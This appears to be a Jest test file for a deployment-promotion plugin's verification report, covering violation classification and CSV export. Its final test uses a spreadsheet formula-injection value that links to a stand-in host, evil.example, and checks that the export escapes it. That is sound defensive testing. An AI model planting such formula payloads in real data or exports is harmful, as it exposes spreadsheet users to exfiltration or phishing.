import {
  Deployment,
  FlowFacts,
  GateCondition,
  PromotionPolicy,
  PromotionRequest,
  readPromotionConfig,
} from '@promotion/plugin-promotion-common';
import {
  buildVerificationReport,
  verificationReportToCsv,
} from './verificationReport';

const FLOW = 'component:default/payments-sftp';

const policyOf = (mode: 'once' | 'every'): PromotionPolicy =>
  readPromotionConfig({
    policies: {
      p: {
        environments: [
          { id: 'test', checklist: [{ id: 'e2e', title: 'E2E' }] },
          {
            id: 'prod',
            title: 'Production',
            approval: { mode, approvers: ['group:default/directors'] },
            postDeployment: {
              checklist: [
                {
                  id: 'monitor-logs',
                  title: 'Monitor logs',
                  minimumWait: { minutes: 15 },
                },
                { id: 'tickets', title: 'Tickets closed' },
              ],
            },
          },
        ],
      },
    },
  }).policies.p;

const at = (minutes: number) =>
  new Date(Date.UTC(2025, 0, 1, 10, minutes)).toISOString();

let nextId = 0;
const deployment = (overrides: Partial<Deployment>): Deployment => ({
  id: `d${++nextId}`,
  entityRef: FLOW,
  environmentId: 'prod',
  version: '1.0.0',
  status: 'succeeded',
  reportedBy: 'service:ci',
  reportedAt: at(0),
  violation: false,
  unmetConditions: [],
  ...overrides,
});

const condition = (code: GateCondition['code']): GateCondition => ({
  code,
  message: `${code} message.`,
});

const approvedRequest = (
  overrides: Partial<PromotionRequest>,
): PromotionRequest => ({
  id: 'r1',
  entityRef: FLOW,
  environmentId: 'prod',
  version: '1.0.0',
  status: 'approved',
  dossier: {
    whatChanged: 'a',
    why: 'b',
    testResults: 'c',
    releaseNotes: 'Release 1.0.0',
  },
  dossierHash: 'h',
  revision: 1,
  requestedBy: 'user:default/alice',
  createdAt: at(-60),
  updatedAt: at(-30),
  expiresAt: at(10000),
  decidedAt: at(-30),
  decisions: [],
  ...overrides,
});

const emptyFacts = (): FlowFacts => ({
  deployments: [],
  checklistCompletions: [],
  signOffs: [],
  standingApprovals: [],
  requests: [],
});

const allPostDeploymentDone = (version: string) =>
  ['monitor-logs', 'tickets'].map(itemId => ({
    id: `c-${itemId}`,
    entityRef: FLOW,
    environmentId: 'prod',
    kind: 'post-deployment' as const,
    itemId,
    version,
    completedBy: 'user:default/alice',
    completedAt: at(20),
  }));

function report(options: {
  deployments: Deployment[];
  facts?: FlowFacts;
  policy?: PromotionPolicy;
  nowMinutes?: number;
}) {
  return buildVerificationReport({
    from: new Date(at(-120)),
    to: new Date(at(120)),
    now: new Date(at(options.nowMinutes ?? 120)),
    deployments: options.deployments,
    flows: new Map([
      [
        FLOW,
        {
          policy: options.policy ?? policyOf('every'),
          facts: options.facts ?? emptyFacts(),
        },
      ],
    ]),
  });
}

describe('buildVerificationReport', () => {
  it('passes every check for an approved, validated, completed deployment', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    const result = report({ deployments: [deployment({})], facts });
    expect(result.violations).toEqual([]);
    expect(result.deploymentsChecked).toBe(1);
    expect(result.checks.every(c => c.passed)).toBe(true);
    expect(result.checks).toHaveLength(5);
  });

  it('classifies the unmet conditions a deployment was recorded with', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    const d = deployment({
      violation: true,
      unmetConditions: [
        condition('previous-deployment-missing'),
        condition('checklist-incomplete'),
        condition('sign-off-missing'),
        condition('approval-required'),
      ],
    });
    const result = report({ deployments: [d], facts });
    expect(result.violations.map(v => v.kind)).toEqual([
      'production-without-approval',
      'not-validated-before-deployment',
      'deployment-into-closed-gate',
    ]);
    expect(result.violations[0]).toMatchObject({
      deploymentId: d.id,
      entityRef: FLOW,
      evidence: '/api/promotion/flows/default/component/payments-sftp/events',
    });
    expect(result.violations[1].message).toContain(
      'checklist-incomplete message. sign-off-missing message.',
    );
    expect(result.violations[2].message).toContain(
      'previous-deployment-missing message.',
    );
    expect(result.checks.filter(c => !c.passed).map(c => c.kind)).toEqual([
      'production-without-approval',
      'not-validated-before-deployment',
      'deployment-into-closed-gate',
    ]);
  });

  it('does not count a failed deployment as one without approval', () => {
    const result = report({
      deployments: [
        deployment({
          status: 'failed',
          violation: true,
          unmetConditions: [condition('approval-pending')],
        }),
      ],
    });
    expect(result.violations.map(v => v.kind)).toEqual([
      'deployment-into-closed-gate',
    ]);
  });

  it('wants release notes on the approving request (`every`)', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('1.0.0'));
    facts.requests.push(
      approvedRequest({
        dossier: {
          whatChanged: 'a',
          why: 'b',
          testResults: 'c',
          releaseNotes: '  ',
        },
      }),
    );
    let result = report({ deployments: [deployment({})], facts });
    expect(result.violations).toEqual([
      expect.objectContaining({
        kind: 'release-notes-missing',
        message: expect.stringContaining('request r1 carried no release notes'),
      }),
    ]);

    // A request approved after the deployment does not cover it.
    facts.requests[0] = approvedRequest({ decidedAt: at(5) });
    result = report({ deployments: [deployment({})], facts });
    expect(result.violations.map(v => v.kind)).toEqual([
      'release-notes-missing',
    ]);
  });

  it('wants release notes on the request behind the standing approval (`once`)', () => {
    const facts = emptyFacts();
    facts.checklistCompletions.push(...allPostDeploymentDone('2.0.0'));
    facts.requests.push(approvedRequest({ version: '1.0.0' }));
    facts.standingApprovals.push({
      id: 's1',
      entityRef: FLOW,
      environmentId: 'prod',
      requestId: 'r1',
      grantedAt: at(-30),
      grantedBy: ['user:default/dave'],
    });
    const later = deployment({ version: '2.0.0', reportedAt: at(30) });
    let result = report({
      deployments: [later],
      facts,
      policy: policyOf('once'),
      nowMinutes: 120,
    });
    expect(result.violations).toEqual([]);

    // Revoked before the deployment: no approval covered it.
    facts.standingApprovals[0].revokedAt = at(10);
    result = report({
      deployments: [later],
      facts,
      policy: policyOf('once'),
    });
    expect(result.violations.map(v => v.kind)).toEqual([
      'release-notes-missing',
    ]);
  });

  it('reports open post-deployment items only once their minimum wait has passed', () => {
    const facts = emptyFacts();
    facts.requests.push(approvedRequest({}));
    const d = deployment({ reportedAt: at(0) });

    // 10 minutes in: the 15-minute log watch may still be running.
    let result = report({ deployments: [d], facts, nowMinutes: 10 });
    expect(result.violations).toEqual([
      expect.objectContaining({
        kind: 'post-deployment-incomplete',
        message: expect.stringContaining('Tickets closed'),
      }),
    ]);
    expect(result.violations[0].message).not.toContain('Monitor logs');

    // 20 minutes in: both are overdue.
    result = report({ deployments: [d], facts, nowMinutes: 20 });
    expect(result.violations[0].message).toContain(
      'Monitor logs, Tickets closed',
    );

    // A rolled-back deployment is not held to its post-deployment checklist.
    result = report({
      deployments: [deployment({ rolledBackAt: at(5) })],
      facts,
      nowMinutes: 20,
    });
    expect(result.violations).toEqual([]);
  });

  it('still classifies deployments of flows that no longer opt in', () => {
    const result = buildVerificationReport({
      from: new Date(at(-120)),
      to: new Date(at(120)),
      now: new Date(at(120)),
      deployments: [
        deployment({
          violation: true,
          unmetConditions: [condition('approval-required')],
        }),
      ],
      flows: new Map([[FLOW, { facts: emptyFacts() }]]),
    });
    expect(result.violations.map(v => v.kind)).toEqual([
      'production-without-approval',
    ]);
  });

  it('exports the violations as CSV with a header row', () => {
    const result = report({
      deployments: [
        deployment({
          id: 'd-csv',
          violation: true,
          unmetConditions: [
            { code: 'approval-required', message: 'Needs "approval", now.' },
          ],
        }),
      ],
    });
    const lines = verificationReportToCsv(result).trim().split('\n');
    expect(lines[0]).toBe(
      'kind,occurredAt,entityRef,environmentId,version,deploymentId,message,evidence',
    );
    expect(lines[1]).toContain('production-without-approval');
    expect(lines[1]).toContain('d-csv');
    // Quotes and commas are escaped.
    expect(lines[1]).toContain('""approval""');
  });

  it('neutralises a version that a spreadsheet would run as a formula', () => {
    const result = report({
      deployments: [
        deployment({
          id: 'd-formula',
          version: '=HYPERLINK("http://evil.example/?x","open")',
          violation: true,
          unmetConditions: [condition('approval-required')],
        }),
      ],
    });
    const row = verificationReportToCsv(result).trim().split('\n')[1];
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x"",""open"")"`);
    expect(row).not.toMatch(/,=HYPERLINK|,"=HYPERLINK/);
  });
});
